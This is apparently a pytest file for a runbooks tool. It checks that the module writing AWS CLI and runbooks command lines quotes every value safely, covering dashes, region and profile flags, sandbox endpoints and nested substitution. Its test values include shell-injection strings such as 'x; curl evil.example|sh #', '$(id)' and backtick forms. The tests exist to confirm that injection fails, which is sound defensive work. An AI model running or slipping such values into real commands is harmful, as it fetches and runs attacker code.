"""The one writer of command lines."""

import re
import shlex
import subprocess
from pathlib import Path

import pytest

from runbooks.commands import aws_cli, runbooks, substituted
from runbooks.source import Place
from tests.support import ROOT

HERE = Place("eu-west-1", profile="prod")


@pytest.mark.parametrize("name", ["x; curl evil.example|sh #", "it's", "$(id)", "a b", "'\"", "\\"])
def test_a_hostile_value_stays_one_word(name: str) -> None:
    command = aws_cli(HERE, "deploy", "get-on-premises-instance", instance_name=name)
    assert shlex.split(command)[3:5] == ["--instance-name", name]
    assert shlex.split(runbooks(HERE, "diagnose", instance=name))[2:4] == ["--instance", name]


@pytest.mark.parametrize("name", ["`id`", "a`$(id)`'b", "it's ``"])
def test_a_command_holds_no_backtick_and_a_shell_reads_the_value_whole(name: str) -> None:
    """It can then stand between backticks in a sentence, in Markdown and in Slack."""
    command = aws_cli(HERE, "deploy", "get-on-premises-instance", instance_name=name)
    assert "`" not in command
    for shell in ("bash", "sh"):
        script = f'set -- {command}; printf %s "$5"'
        read = subprocess.run([shell, "-c", script], capture_output=True, text=True, check=True)
        assert read.stdout == name


def test_a_value_with_a_dash_is_no_option() -> None:
    command = aws_cli(HERE, "deploy", "get-on-premises-instance", instance_name="--help")
    assert "--instance-name=--help" in shlex.split(command)


def test_a_command_names_where_it_asks() -> None:
    assert aws_cli(HERE, "deploy", "list-applications").endswith("--region eu-west-1 --profile prod")
    assert runbooks(HERE, "diagnose") == "runbooks diagnose --region eu-west-1 --profile prod"


def test_a_command_of_a_sandbox_never_asks_the_readers_account() -> None:
    sandbox = Place("eu-west-1", sandbox="healthy")
    assert aws_cli(sandbox, "deploy", "list-applications").endswith('--endpoint-url "$AWS_ENDPOINT_URL"')
    assert runbooks(sandbox, "diagnose") == "runbooks diagnose --sandbox healthy"


def test_an_empty_value_is_left_out_and_an_empty_item_is_not() -> None:
    assert runbooks(HERE, "diagnose", instance="", status=[""]).startswith(
        "runbooks diagnose --status= --region"
    )


def test_one_command_in_another_is_one_word() -> None:
    inner = aws_cli(HERE, "iam", "list-access-keys", user_name="a b")
    whole = substituted(aws_cli(HERE, "iam", "update-access-key"), "access-key-id", inner)
    assert whole.endswith(f'--access-key-id "$({inner})"')


def test_no_other_module_writes_a_command() -> None:
    others = [
        path
        for path in Path(ROOT, "runbooks").rglob("*.py")
        if path.name not in ("commands.py", "findings.py")
    ]
    writers = [path.name for path in others if re.search(r"\bCommand\(", path.read_text(encoding="utf-8"))]
    assert writers == []
